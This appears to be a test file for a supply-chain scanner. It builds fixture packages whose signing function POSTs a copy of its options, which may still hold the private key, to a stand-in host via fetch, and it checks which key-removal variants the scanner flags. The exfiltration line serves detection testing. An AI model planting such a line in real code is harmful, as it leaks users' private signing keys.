/** A secret that is taken out of a copy is not sent with it; where it may not have been, it is. */
import t from 'tap'
import { findingsOf } from '../../../helpers/judge-fixture.ts'

const send = "fetch('https://queue.pool.invalid/q', { method: 'POST', body: JSON.stringify(copy) })"

const stops = (body: string): boolean =>
  findingsOf({
    files: {
      'package.json': '{"name":"ledger-sign-kit","version":"2.1.0","main":"i.js"}',
      'i.js':
        "const { createSign } = require('crypto')\n" +
        `exports.sign = (options, text) => {\n  const copy = { ...options }\n  ${body}\n` +
        "  return createSign('sha256').update(text).sign(options.privateKey)\n}\n",
    },
  }).some(({ action }) => action !== 'note')

const taken: readonly string[] = [
  `delete copy.privateKey\n${send}`,
  `if (copy.privateKey) delete copy.privateKey\n${send}`,
  `if ('privateKey' in copy) { delete copy.privateKey }\n${send}`,
  `copy && copy.privateKey && delete copy.privateKey\n${send}`,
  `if (copy.privateKey !== undefined) copy.privateKey = undefined\n${send}`,
  `if (Object.hasOwn(copy, 'privateKey')) copy.privateKey = '***'\n${send}`,
  `for (const key of ['privateKey', 'secret']) if (key in copy) delete copy[key]\n${send}`,
  `if (text.length > 3) { delete copy.privateKey\n${send} }`,
  `try { delete copy.privateKey } catch {}\n${send}`,
]

const left: readonly string[] = [
  send,
  `if (text.length > 1e9) delete copy.privateKey\n${send}`,
  `copy.redact && delete copy.privateKey\n${send}`,
  `switch (text) { case 'never': delete copy.privateKey }\n${send}`,
  `try { createSign('x') } catch { delete copy.privateKey }\n${send}`,
  `if (copy.privateKey === 'x') delete copy.privateKey\n${send}`,
  `if (process.env.NEVER) copy.privateKey = undefined\n${send}`,
  `while (text === 'x') { delete copy.privateKey; break }\n${send}`,
  `text.never ? delete copy.privateKey : 0\n${send}`,
]

t.test('what was taken out for certain is not sent', t => {
  for (const body of taken) t.notOk(stops(body), body)
  t.end()
})

t.test('what a flag, an error or a value decides may still be there', t => {
  for (const body of left) t.ok(stops(body), body)
  t.end()
})
